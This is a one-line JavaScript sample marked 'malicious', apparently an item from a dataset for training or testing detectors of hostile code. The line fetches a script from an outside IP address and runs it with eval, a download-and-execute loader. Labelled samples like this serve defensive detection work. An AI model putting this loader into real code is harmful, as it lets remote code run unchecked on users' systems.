// label: malicious
fetch("http://203.0.113.9/p.js").then(r => r.text()).then(code => eval(code));
